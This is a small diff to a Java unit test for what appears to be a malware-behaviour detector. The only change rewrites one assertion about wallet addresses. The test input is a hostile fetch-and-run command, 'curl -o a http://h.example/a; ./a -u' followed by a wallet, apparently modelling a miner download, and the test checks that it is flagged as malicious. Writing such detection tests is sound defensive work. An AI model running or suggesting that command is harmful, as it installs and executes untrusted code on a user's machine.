@@ -213,7 +213,7 @@ class BehaviourTest {
         var behaviour = Behaviour.of("curl -o a http://h.example/a; ./a -u " + WALLET);
 
         assertThat(behaviour.urls()).containsExactly("http://h.example/a");
-        assertThat(behaviour.wallets()).containsExactly(WALLET);
+        assertThat(behaviour.wallets()).extracting(w -> w.address()).containsExactly(WALLET);
         assertThat(behaviour.isMalicious()).isTrue();
         assertThat(behaviour.evidence(Trait.DOWNLOAD_AND_RUN))
                 .containsExactly("curl -o a http://h.example/a");
